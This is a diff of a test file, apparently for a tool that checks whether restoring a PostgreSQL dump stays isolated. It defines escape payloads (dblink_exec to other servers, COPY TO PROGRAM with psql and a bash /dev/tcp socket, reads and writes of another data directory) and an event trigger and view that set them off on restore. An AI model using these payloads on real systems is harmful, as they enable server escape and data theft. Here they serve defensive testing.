@@ -25,10 +25,10 @@ from support.parts import require
 
 WAYS = {
     "socket of another server": "SELECT public.dblink_exec("
-    "'host=@SOCKET@ port=@PORT@ user=postgres dbname=postgres', 'CREATE TABLE loot_socket ()')",
+    "'host=@SOCKET@ port=@PORT@ user=postgres dbname=postgres', 'CREATE TABLE IF NOT EXISTS loot_socket ()')",
     "tcp of another server": "SELECT public.dblink_exec("
-    "'host=127.0.0.1 port=@PORT@ user=postgres password=@PASSWORD@ dbname=postgres', 'CREATE TABLE loot_tcp ()')",
-    "psql to another server": "COPY (SELECT 1) TO PROGRAM '@PSQL@ -h @SOCKET@ -p @PORT@ -U postgres -c \"CREATE TABLE loot_psql ()\"'",
+    "'host=127.0.0.1 port=@PORT@ user=postgres password=@PASSWORD@ dbname=postgres', 'CREATE TABLE IF NOT EXISTS loot_tcp ()')",
+    "psql to another server": "COPY (SELECT 1) TO PROGRAM '@PSQL@ -h @SOCKET@ -p @PORT@ -U postgres -c \"CREATE TABLE IF NOT EXISTS loot_psql ()\"'",
     "shell to the loopback": "COPY (SELECT 1) TO PROGRAM 'bash -c \"exec 3<>/dev/tcp/127.0.0.1/@LISTENER@\"'",
     "write into another data directory": "COPY (SELECT 1) TO '@DATA@/loot'",
     "read of another data directory": "SELECT pg_read_file('@DATA@/PG_VERSION')",
@@ -63,9 +63,11 @@ BEGIN
         RETURN NEXT;
     END LOOP;
 END $trap$;
-CREATE MATERIALIZED VIEW trap AS SELECT * FROM try_all();
+CREATE MATERIALIZED VIEW trap AS SELECT * FROM public.try_all();
 CREATE TABLE orders (id int PRIMARY KEY); INSERT INTO orders VALUES (1), (2);
-CREATE FUNCTION on_ddl() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM * FROM try_all(); END $$;
+-- A parallel restore makes this before or after it fills the view, whose REFRESH springs it, too. Hence a qualified name
+-- (pg_restore has an empty search_path), and ways out that can be taken twice.
+CREATE FUNCTION on_ddl() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM * FROM public.try_all(); END $$;
 CREATE EVENT TRIGGER sprung ON ddl_command_end EXECUTE FUNCTION on_ddl();
 """
 
@@ -185,7 +187,8 @@ def test_the_same_database_gets_everywhere_when_isolation_is_waived(
     assert not report["isolation"]["isolated"]
     # What else it tried is told by what it did: a killed shell and a socket that speaks no SQL give an error all the same.
     succeeded = {way for way, answer in sprung(report).items() if "SUCCEEDED" in answer}
-    assert succeeded > {"socket of another server", "tcp of another server", "read of another data directory"}, report
+    least = {"socket of another server", "tcp of another server", "read of another data directory"}
+    assert succeeded > least, "\n".join(f"{check['name']}: {check['found']} {check['detail']}" for check in report["checks"])
     assert {"loot_socket", "loot_tcp", "loot_psql", "data directory", "note"} <= loot(bait, work_dir)
     assert visits[1]
     assert victim.wait(10) == -9
